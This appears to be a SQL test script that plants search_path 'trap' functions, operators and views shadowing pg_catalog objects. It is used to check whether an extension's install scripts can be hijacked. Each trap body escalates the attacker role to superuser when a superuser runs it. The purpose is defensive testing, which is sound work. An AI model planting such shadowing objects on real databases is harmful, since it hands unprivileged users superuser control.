-- The attacker's traps (run by test/integration/script_attack.sh as the unprivileged role, with psql): for every
-- operator, function and relation an extension script uses, objects of the same name in the schema given, with
-- argument types that match a call better than pg_catalog's (an exact match beats one that needs a cast). Each
-- trap counts itself in the sequence trap_log.hits (a sequence: its count survives the rollback of a failed
-- script), warns, and, if it runs as a superuser, makes its owner one.
--
--   psql -v used="$(check_scripts.sh --names ...)" -v trap_schema=m -v attacker=mallory -f plant_traps.sql
--
-- trap_schema may be pg_temp: the traps are then temporary objects of this session.
SELECT pg_catalog.set_config('idcodec_attack.used', :'used', false),
       pg_catalog.set_config('idcodec_attack.schema', :'trap_schema', false),
       pg_catalog.set_config('idcodec_attack.attacker', :'attacker', false) \gset

-- The body of every trap.
CREATE FUNCTION pg_temp.trap_body(label text) RETURNS text LANGUAGE sql AS $$
SELECT format($body$
BEGIN
    PERFORM pg_catalog.nextval('trap_log.hits');
    RAISE WARNING 'trap ran: %% as %%', %L, current_user;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE 'ALTER ROLE %I SUPERUSER';
    END IF;
    RETURN NULL;
END
$body$, label, current_setting('idcodec_attack.attacker'))
$$;

DO $plant$
DECLARE
    trap_schema text := current_setting('idcodec_attack.schema');
    -- the argument types a script's calls have (literals of catalog lookups, names, OIDs) and some beyond
    types text[] := ARRAY['oid', 'regclass', 'regproc', 'regprocedure', 'regtype', 'regnamespace', 'regrole',
                          'name', 'text', '"char"', 'bigint', 'integer', 'boolean', 'bytea', 'uuid'];
    entry text;
    kind text;
    object_name text;
    arguments int;
    result text;
    signatures text[];
    signature text;
    counter int := 0;
    planted int := 0;
    planted_before int;
    left_type text;
    right_type text;
BEGIN
    FOREACH entry IN ARRAY string_to_array(current_setting('idcodec_attack.used'), E'\n') LOOP
        planted_before := planted;
        kind := split_part(entry, ' ', 1);
        object_name := split_part(entry, ' ', 2);
        IF kind = 'operator' THEN
            FOREACH left_type IN ARRAY types || ARRAY[NULL] LOOP
                FOREACH right_type IN ARRAY types LOOP
                    counter := counter + 1;
                    BEGIN
                        EXECUTE format('CREATE FUNCTION %I.trap_%s(%s) RETURNS boolean LANGUAGE plpgsql AS %L',
                                       trap_schema, counter, concat_ws(', ', left_type, right_type),
                                       pg_temp.trap_body(format('operator %s(%s)', object_name, concat_ws(', ', left_type, right_type))));
                        EXECUTE format('CREATE OPERATOR %I.%s (%s RIGHTARG = %s, FUNCTION = %I.trap_%s)',
                                       trap_schema, object_name,
                                       CASE WHEN left_type IS NOT NULL THEN format('LEFTARG = %s,', left_type) ELSE '' END,
                                       right_type, trap_schema, counter);
                        planted := planted + 1;
                    EXCEPTION WHEN others THEN
                        NULL;  -- a type the operator cannot take (e.g. a prefix operator's name as infix)
                    END;
                END LOOP;
            END LOOP;
        ELSIF kind = 'function' THEN
            arguments := split_part(entry, ' ', 3)::int;
            SELECT p.prorettype::regtype::text INTO result FROM pg_proc p
            WHERE p.proname = object_name AND p.pronamespace = 'pg_catalog'::regnamespace AND p.pronargs = arguments
            ORDER BY p.oid LIMIT 1;
            IF result IS NULL OR result LIKE 'any%' OR result IN ('record', 'void', 'internal', 'trigger') THEN
                result := 'text';
            END IF;
            -- every pair of types for up to two arguments; beyond, each argument of each type, the others text
            signatures := ARRAY[]::text[];
            IF arguments = 0 THEN
                signatures := ARRAY[''];
            ELSIF arguments = 1 THEN
                signatures := types;
            ELSIF arguments = 2 THEN
                FOREACH left_type IN ARRAY types LOOP
                    FOREACH right_type IN ARRAY types LOOP
                        signatures := signatures || (left_type || ', ' || right_type);
                    END LOOP;
                END LOOP;
            ELSE
                FOR position IN 1..arguments LOOP
                    FOREACH left_type IN ARRAY types LOOP
                        signatures := signatures || array_to_string(
                            array_fill('text'::text, ARRAY[position - 1]) || left_type
                            || array_fill('text'::text, ARRAY[arguments - position]), ', ');
                    END LOOP;
                END LOOP;
            END IF;
            FOREACH signature IN ARRAY signatures LOOP
                BEGIN
                    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', trap_schema,
                                   object_name, signature, result,
                                   pg_temp.trap_body(format('function %s(%s)', object_name, signature)));
                    planted := planted + 1;
                EXCEPTION WHEN duplicate_function THEN
                    NULL;
                END;
            END LOOP;
        ELSIF kind = 'relation' THEN
            counter := counter + 1;
            BEGIN
                EXECUTE format('CREATE FUNCTION %I.trap_%s() RETURNS boolean LANGUAGE plpgsql AS %L', trap_schema,
                               counter, pg_temp.trap_body(format('relation %s', object_name)));
                -- the catalog's columns, those of a pseudo-type (pg_attribute's anyarray) as text: a view cannot
                -- have them
                EXECUTE format('CREATE VIEW %I.%I AS SELECT %s FROM pg_catalog.%I WHERE %I.trap_%s()', trap_schema,
                               object_name,
                               coalesce((SELECT string_agg(CASE WHEN t.typtype = 'p'
                                                                THEN format('%I::text AS %I', a.attname, a.attname)
                                                                ELSE quote_ident(a.attname) END, ', ' ORDER BY a.attnum)
                                         FROM pg_catalog.pg_attribute a JOIN pg_catalog.pg_type t ON t.oid = a.atttypid
                                         WHERE a.attrelid = to_regclass('pg_catalog.' || quote_ident(object_name))
                                           AND a.attnum > 0 AND NOT a.attisdropped), '*'),
                               object_name, trap_schema, counter);
                planted := planted + 1;
            EXCEPTION WHEN undefined_table THEN
                NULL;  -- not a relation of pg_catalog: a view of that name needs other columns
            END;
        END IF;
        -- a generator that plants nothing would let every script pass
        IF planted = planted_before THEN
            RAISE EXCEPTION 'no trap could be planted for %', entry;
        END IF;
    END LOOP;
    RAISE NOTICE 'planted % traps in %', planted, trap_schema;
END
$plant$;
